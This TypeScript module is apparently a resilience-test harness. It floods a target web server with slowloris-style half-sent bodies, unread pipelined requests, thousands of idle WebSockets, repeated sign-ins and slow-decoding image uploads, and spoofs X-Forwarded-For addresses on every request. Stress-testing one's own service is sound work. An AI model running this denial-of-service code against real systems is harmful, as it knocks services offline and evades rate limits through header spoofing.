import { once } from 'node:events'
import { Agent, get, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import sharp from 'sharp'
import { WebSocket } from 'ws'

// Greedy and silent clients, in a process of their own: its first message is their target, each later one asks for their
// counts. They go on until the process is ended.

export interface Target {
  /** Without a slash at the end. */
  readonly url: string
  readonly token: string
  readonly username: string
  readonly password: string
  /** An app of many megabytes. */
  readonly appId: number
  /** Names of attacks, where not all are wanted. */
  readonly parts: readonly string[]
}

/** Answers by attack and status; 0 stands for a cut or refused connection. */
export type Told = Readonly<Record<string, Readonly<Record<number, number>>>>

const SILENT_READERS = 30
const APP_READERS = 8
const HALF_BODIES = 3000
const IDLE_SOCKETS = 5000
const SIGN_INS = 12
const AVATARS = 16
/** Clients of which each waits for some seconds before it comes back. */
const MANY = 100
/** Pixels along a side: a picture of few bytes that takes long to decode. */
const AVATAR_SIDE = 5000

const [{ url, token, username, password, appId, parts }] = (await once(process, 'message')) as [
  Target,
]
const { hostname, port } = new URL(url)
const told: Record<string, Record<number, number>> = {}
const agent = new Agent({ keepAlive: true })

const picture = await sharp({
  create: { width: AVATAR_SIDE, height: AVATAR_SIDE, channels: 3, background: 'teal' },
})
  .png()
  .toBuffer()
const avatar = new URLSearchParams({ token, image: picture.toString('base64') })

loop(SILENT_READERS, 'silent readers', (n) => readNothing(`192.0.2.${n}`))
loop(APP_READERS, 'readers of the app', (n) => readApp(`198.51.100.${n}`))
loop(HALF_BODIES, 'half-sent bodies', (n) => sendHalf(`203.0.113.${n % 250}`))
loop(IDLE_SOCKETS, 'idle sockets', (n) => stayIdle(`2001:db8:aaaa:bbbb::${n.toString(16)}`))
loop(SIGN_INS, 'sign-ins', (n) =>
  post('/auth/login', `198.18.0.${n}`, new URLSearchParams({ username, password })),
)
loop(AVATARS, 'avatars', (n) => post('/auth/avatar-upload', `198.18.1.${n}`, avatar))
process.on('message', () => process.send?.(told satisfies Told))

/** So many clients, each beginning again a little after its end: more often would only load the machine that attacks. */
function loop(clients: number, name: string, attack: (n: number) => Promise<number>): void {
  if (parts.length > 0 && !parts.includes(name)) return
  const counts = (told[name] = {} as Record<number, number>)
  const live = async (n: number): Promise<void> => {
    const status = await attack(n)
    counts[status] = (counts[status] ?? 0) + 1
    await wait(clients > MANY ? 2500 + Math.random() * 5000 : 200)
    return await live(n)
  }
  for (let n = 0; n < clients; n++) void live(n)
}

/** Asks for a large file over and over on one connection, and takes nothing of the answers. */
async function readNothing(from: string): Promise<number> {
  const asked = `GET /portfolio/en.json HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${from}\r\n\r\n`
  const socket = connect(Number(port), hostname)
  socket.pause()
  socket.write(asked.repeat(50))
  return await closed(socket)
}

async function sendHalf(from: string): Promise<number> {
  const head = [
    'POST /enquiries HTTP/1.1',
    `Host: ${hostname}`,
    `X-Forwarded-For: ${from}`,
    'Content-Type: application/json',
    'Content-Length: 4000',
  ]
  const socket = connect(Number(port), hostname)
  socket.resume()
  socket.write(`${head.join('\r\n')}\r\n\r\n${'{"inputs":'.padEnd(2000)}`)
  return await closed(socket)
}

function closed(socket: Socket): Promise<number> {
  return new Promise((resolve) => {
    socket.on('error', () => {})
    socket.on('close', () => resolve(0))
  })
}

function stayIdle(from: string): Promise<number> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/ws/app/`, {
      headers: { 'X-Forwarded-For': from },
    })
    socket.on('unexpected-response', (asked, answer) => {
      answer.resume()
      asked.destroy()
      resolve(answer.statusCode ?? 0)
    })
    socket.on('error', () => resolve(0))
    socket.on('close', () => resolve(0))
  })
}

/** Reads an app with all of its chunks. @returns the status of the last answer */
async function readApp(from: string): Promise<number> {
  const app = await read(`/api/app/get?app_id=${appId}&token=${token}`, from)
  let { status } = app
  for (const chunk of chunksOf(app.body))
    ({ status } = await read(`/api/get-items-chunk/${appId}/${encodeURIComponent(chunk)}`, from))
  return status
}

function chunksOf(body: Buffer): string[] {
  // The ids alone: to parse all of it would slow this client down.
  const list = /"chunks":(\[[^\]]*\])/.exec(body.toString('latin1'))?.[1]
  return list ? (JSON.parse(list) as string[]) : []
}

function read(path: string, from: string): Promise<{ status: number; body: Buffer }> {
  return new Promise((resolve) => {
    const parts: Buffer[] = []
    const end = (status: number) => resolve({ status, body: Buffer.concat(parts) })
    get(url + path, { agent, headers: { 'X-Forwarded-For': from } }, (answer) => {
      answer.on('data', (part: Buffer) => void parts.push(part))
      answer.on('end', () => end(answer.statusCode ?? 0))
      answer.on('error', () => end(0))
    }).on('error', () => end(0))
  })
}

function post(path: string, from: string, form: URLSearchParams): Promise<number> {
  return new Promise((resolve) => {
    const headers = {
      'X-Forwarded-For': from,
      'Content-Type': 'application/x-www-form-urlencoded',
    }
    const asked = request(url + path, { method: 'POST', agent, headers }, (answer) => {
      answer.resume()
      answer.on('close', () => resolve(answer.statusCode ?? 0))
    })
    asked.on('error', () => resolve(0))
    asked.end(String(form))
  })
}
